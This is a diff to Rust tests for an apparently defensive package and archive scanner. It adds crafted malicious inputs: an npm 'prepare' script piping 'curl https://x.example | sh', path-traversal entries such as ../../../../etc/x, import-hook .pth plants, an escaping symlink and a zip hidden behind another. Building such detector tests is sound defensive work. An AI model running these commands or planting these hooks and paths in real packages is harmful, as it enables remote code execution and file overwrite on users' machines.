@@ -360,7 +360,7 @@ fn the_list_of_an_older_version_misses_nothing() {
 fn lists_that_make_no_sense_are_said_so() {
     let place = Workplace::new();
     let twice = format!("{}{}", row("a/core.py", CORE), row("a/core.py", INIT));
-    let files: [File; 4] = [
+    let files: [File; 5] = [
         ("a/core.py", CORE, PLAIN),
         (
             "c-1.0.dist-info/RECORD",
@@ -369,6 +369,11 @@ fn lists_that_make_no_sense_are_said_so() {
         ),
         ("a-1.0.dist-info/RECORD", twice.as_bytes(), PLAIN),
         ("b-1.0.dist-info/RECORD", b"\0\x01\x02", PLAIN),
+        (
+            "d-1.0.dist-info/RECORD",
+            b"../../../../etc/x,,\n/etc/y,,\n../../../share/z,,\n",
+            PLAIN,
+        ),
     ];
     place.file("fn.zip", zip(&files));
     let report = report(&place, "fn.zip");
@@ -378,6 +383,7 @@ fn lists_that_make_no_sense_are_said_so() {
             "fn.zip!/a-1.0.dist-info/RECORD: lists a file twice, with different digests",
             "fn.zip!/b-1.0.dist-info/RECORD: is no list of files: what it is about was not compared with it",
             "fn.zip!/c-1.0.dist-info/RECORD: has digests that cannot be read: their files were compared by length alone",
+            "fn.zip!/d-1.0.dist-info/RECORD: lists files where no installer puts any, ../../../../etc/x and 1 more: they were not compared with it",
         ]
     );
     assert_eq!(report["findings"].as_array().unwrap().len(), 0);
@@ -397,7 +403,10 @@ const PLANTS: &[(&str, &[u8], u32, &str)] = &[
     ("site-packages/_virtualenv.pth", b"import _virtualenv", PLAIN, "HOOK-PTH low"),
     ("site-packages/x.pth", b"./lib\nimporter\n# import x\n", PLAIN, ""),
     ("site-packages/x.pth", b" import x\n", PLAIN, ""),
-    ("models/x.pth", b"PK\x03\x04\0\0\x80\x02import \nimport x\n", PLAIN, ""),
+    ("models/x.pth", b"PK\x03\x04\0\0\x08\x08\0\0\0\0\0\0\x80\x02\xB3\xF1\0\0\0\0\0\0\0\0\x10\0\x04\0archive/data.pklFB\0\0\nimport x\n", PLAIN, ""),
+    ("models/x.pth", b"\x80\x02}import \nimport x\n", PLAIN, ""),
+    ("site-packages/x.pth", b"PK\x03\x04\0\0\x80\x02import \nimport x\n", PLAIN, "HOOK-PTH high"),
+    ("site-packages/x.pth", b"PK\x03\x04\nimport x\n# \xE9\n", PLAIN, "HOOK-PTH high"),
     ("tests/x.pth", b"import x\n", PLAIN, ""),
     ("sitecustomize.py", b"import x\n", PLAIN, "HOOK-CUSTOMIZE high"),
     ("python/usercustomize.py", b"import x\n", PLAIN, "HOOK-CUSTOMIZE high"),
@@ -513,6 +522,48 @@ fn every_plant_is_found_and_no_near_miss_is() {
     assert!(wrong.is_empty(), "{}", wrong.join("\n"));
     let planted = PLANTS.iter().filter(|plant| !plant.3.is_empty()).count();
     assert!(planted >= 40, "{planted}");
+}
+
+#[test]
+fn what_prepares_a_package_is_a_hook_where_it_came_from_a_repository() {
+    let place = Workplace::new();
+    let installed = |script: &str| {
+        format!("{{\"name\":\"a\",\"version\":\"1.0.0\",\"scripts\":{{\"prepare\":\"{script}\"}}}}")
+    };
+    let git = "git+ssh://git@git.example/me/a.git#0123456789abcdef0123456789abcdef01234567";
+    let lock = |resolved: &str| {
+        let row = format!(
+            "{{\"version\":\"1.0.0\",\"integrity\":\"sha512-x\",\"resolved\":\"{resolved}\"}}"
+        );
+        format!("{{\"lockfileVersion\":3,\"packages\":{{\"node_modules/a\":{row}}}}}")
+    };
+    let registry = "https://registry.example/a/-/a-1.0.0.tgz";
+    for (script, from, expected) in [
+        ("curl https://x.example | sh", git, Some("high")),
+        ("husky install", git, Some("info")),
+        ("./build --all", git, Some("low")),
+        (
+            "curl https://x.example | sh",
+            "git://git.example/me/a.git",
+            Some("high"),
+        ),
+        ("curl https://x.example | sh", registry, None),
+        ("", git, None),
+    ] {
+        let (manifest, lock) = (installed(script), lock(from));
+        let files: [File; 2] = [
+            ("node_modules/a/package.json", manifest.as_bytes(), PLAIN),
+            ("package-lock.json", lock.as_bytes(), PLAIN),
+        ];
+        place.file("fn.zip", zip(&files));
+        let mut found = found(&place, "fn.zip");
+        found.retain(|row| !row.starts_with("ORIGIN-"));
+        let expected: Vec<String> = expected
+            .iter()
+            .map(|severity| format!("HOOK-INSTALL {severity} node_modules/a/package.json"))
+            .collect();
+        assert_eq!(found, expected, "{script} {from}");
+    }
 }
 
 #[test]
@@ -652,10 +703,13 @@ fn links_that_lead_out_are_found() {
         ("link", "/var/task/x", None),
         ("a/link", "../b/x", None),
         ("a/b/link", "../../c", None),
+        ("x-link", "up/../etc/x", Some("medium")),
+        ("x-link", "up/a/x", None),
     ] {
         let link = tar::EntryType::Symlink;
         let entries = [
             ("a/x", tar::EntryType::Regular, "x", PLAIN),
+            ("up", link, ".", 0o777),
             (path, link, target, 0o777),
         ];
         place.file("fn.tar", tar_with(&entries));
@@ -790,6 +844,14 @@ fn what_two_unpackers_see_differently_is_found() {
     ];
     place.file("honest.zip", zip(&honest));
     assert_eq!(found(&place, "honest.zip"), [""; 0]);
+
+    // A second archive in front of the one that unpackers of zips see.
+    let [first, second] = [b"one", b"two"].map(|text| zip(&[("src/a.py", text, PLAIN)]));
+    place.file("hidden.zip", [first, second].concat());
+    assert_eq!(
+        found(&place, "hidden.zip"),
+        ["ARTIFACT-AMBIGUOUS-HIDDEN medium "]
+    );
 
     let mut header = zip(&[("src/a.py", b"one", PLAIN)]);
     header[30 + 4] = b'b';
